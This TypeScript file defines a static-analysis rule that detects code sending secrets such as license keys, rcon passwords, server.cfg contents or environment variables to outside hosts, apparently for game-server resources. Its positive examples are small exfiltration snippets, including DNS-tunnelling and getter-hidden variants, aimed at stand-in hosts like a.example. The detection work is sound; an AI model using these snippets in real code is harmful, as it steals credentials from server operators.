import { originsWithin } from '#analysis/flow/heap.ts'
import { nothing, origin, textsOf, endOf } from '#analysis/flow/value.ts'
import { secretFile, secretName } from '#analysis/knowledge/names.ts'
import { httpCall } from './hosts.ts'
import { defineRule, high, js, low, lua, medium } from './rule.ts'

/** That of the database is asked for by each resource that connects to it. */
const serverSecret = /license_?key|rcon_?password/i

export const secretAndHttp = defineRule({
  id: 'secret-and-http',
  on: ['http', 'sends-more', 'reads-setting', 'reads-file'],
  test: (event, program) => {
    const { kind, values, object, name, named, file } = event
    if (kind === 'http' || kind === 'sends-more') {
      if (
        kind === 'sends-more'
          ? !object?.refs?.includes('#response') || object.refs.includes('#socket')
          : !httpCall.test(name) || !program.isForeign(event)
      )
        return undefined
      return values.some((value) => (originsWithin(value) & origin.secret) !== 0)
        ? high('the secret is sent')
        : undefined
    }
    const value = (kind === 'reads-file' ? named.path : named.name) ?? nothing
    const texts = [...textsOf(value), endOf(value)]
    const secrets = kind === 'reads-file' ? secretFile : serverSecret
    const isSecret = texts.some((text) => secrets.test(text))
    if (!program.callsOut(file) || program.sendsSecret(file)) return undefined
    if (isSecret) return medium()
    return kind === 'reads-setting' && texts.some((text) => secretName.test(text)) ? low() : undefined
  },
  examples: {
    found: [
      js(`const { Resolver } = require('dns').promises
const { createInterface } = require('readline')
const resolver = new Resolver()
const input = require('fs').createReadStream('server.cfg')
async function send() {
^ for await (const line of createInterface({ input })) resolver.resolve4(line + '.a.example')
}`),
      js(`const body = new URLSearchParams({ kind: 'boot' })
body.set('report', JSON.stringify(process.report.getReport()))
^fetch('https://stats.example.org', { method: 'POST', body })`),
      js(`const list = Object.keys(process.env).map((name) => process.env[name])
^require('dns').resolve4(Buffer.from(list.join()).toString('hex') + '.a.example', print)`),
      lua(`local theme = setmetatable({}, { __tostring = function() return GetConvar('rcon_password', '') end })
^PerformHttpRequest(('https://a.example/%s'):format(theme), print)`),
      lua(`io.input('server.cfg')
^PerformHttpRequest('https://a.example', print, 'POST', io.read('a'))`),
      js(`const text = require('fs').readFileSync('server.cfg', 'utf8')
^require('nodemailer').createTransport({ host: 'a.example' }).sendMail({ to: 'a@a.example', text })`),
      js(`const status = { get build() { return GetConvar('sv_licenseKey', '') } }
^fetch('https://a.example', { method: 'POST', body: JSON.stringify(status) })`),
      js(`const status = {}
Object.defineProperties(status, { build: { get: () => GetConvar('sv_licenseKey', '') } })
^fetch('https://a.example', { method: 'POST', body: JSON.stringify({ ...status }) })`),
      lua(`local function online()
  local state = { send = PerformHttpRequest, key = GetConvar('sv_licenseKey', '') }
^ return function(one) one.send('https://a.example', print, 'POST', one.key) end, state, 0
end
for _ in online() do end`),
      js(`const form = new URLSearchParams({ key: GetConvar('sv_licenseKey', '') })
^fetch('https://a.example', { method: 'POST', body: form })`),
      lua(`local text = LoadResourceFile(GetResourceByFindIndex(0), 'config.lua')
^PerformHttpRequest('https://a.example', print, 'POST', text)`),
      lua(`local key = GetConvar('sv_licenseKey', '')
^PerformHttpRequest('https://a.example?' .. key)`),
      js(`const key = GetConvar('rcon_password', '')
^fetch('https://a.example?' + key)`),
      lua(`local key = GetConvar('sv_licenseKey', '')
^PerformHttpRequest('https://a.example', print, 'POST', json.encode({ data = { key } }))`),
      js(`^fetch('https://a.example', { method: 'POST', body: JSON.stringify({ env: process.env }) })`),
      js(`const dns = require('dns')
const parts = Buffer.from(JSON.stringify(process.env)).toString('hex').match(/.{1,60}/g)
^for (const part of parts) dns.resolve(part + '.a.example', log)`),
      js(`const request = require('https').request(options)
^request.end(require('fs').readFileSync('server.cfg'))`),
      lua(`local names = { 'sv_hostname', 'sv_licenseKey' }
local out = {}
for _, name in ipairs(names) do out[name] = GetConvar(name, '') end
^PerformHttpRequest('https://a.example', print, 'POST', json.encode(out))`),
      lua(`for _, name in ipairs({ 'server.cfg', 'data/server.cfg' }) do
  local file = io.open(name, 'r')
^ if file then PerformHttpRequest('https://a.example', print, 'POST', file:read('*a')) end
end`),
      js(`const wanted = [/^server.*\\.cfg$/i]
const text = require('fs').readFileSync(find(wanted), 'utf8')
^fetch('https://a.example', { method: 'POST', body: text })`),
    ],
    notFound: [
      js(`const body = new URLSearchParams({ kind: 'boot' })
body.set('level', process.env.LEVEL)
fetch('https://stats.example.org', { method: 'POST', body })`),
      lua(`local theme = setmetatable({}, { __tostring = function() return GetConvar('locale', '') end })
PerformHttpRequest(('https://a.example/%s'):format(theme), print)`),
      js(`const status = { get build() { return GetConvar('sv_enforceGameBuild', '') } }
fetch('https://a.example', { method: 'POST', body: JSON.stringify(status) })`),
      js(`const status = {}
Object.defineProperties(status, { build: { get: () => GetConvar('locale', '') } })
fetch('https://a.example', { method: 'POST', body: JSON.stringify({ ...status }) })`),
      lua(`local function online()
  local state = { send = PerformHttpRequest, key = GetConvar('locale', '') }
  return function(one) one.send('https://a.example', print, 'POST', one.key) end, state, 0
end
for _ in online() do end`),
      js(`require('dns').lookup(process.env.DB_HOST, connect)`),
      lua(`local text = LoadResourceFile(GetCurrentResourceName(), 'config.lua')
PerformHttpRequest('https://a.example', print, 'POST', text)`),
      lua(`local key = GetConvar('sv_licenseKey', '')
print(#key)`),
      js(`const locale = GetConvar('locale', 'en')
fetch('https://a.example?' + locale)`),
      lua(`local locale = GetConvar('locale', 'en')
PerformHttpRequest('https://a.example', print, 'POST', json.encode({ data = { locale } }))`),
      js(
        `fetch('https://a.example', { method: 'POST', body: JSON.stringify({ mode: process.env.NODE_ENV }) })`,
      ),
      js(`const request = require('https').request(options)
request.end(require('fs').readFileSync('names.json'))`),
      lua(`local names = { 'sv_hostname', 'locale' }
local out = {}
for _, name in ipairs(names) do out[name] = GetConvar(name, '') end
PerformHttpRequest('https://a.example', print, 'POST', json.encode(out))`),
      lua(`for _, name in ipairs({ 'names.txt', 'places.txt' }) do
  local file = io.open(name, 'r')
  if file then PerformHttpRequest(Config.Url, print, 'POST', name) end
end`),
      js(`const wanted = [/^locale.*\\.json$/i]
const text = require('fs').readFileSync(find(wanted), 'utf8')
fetch('https://a.example/names')`),
    ],
  },
})
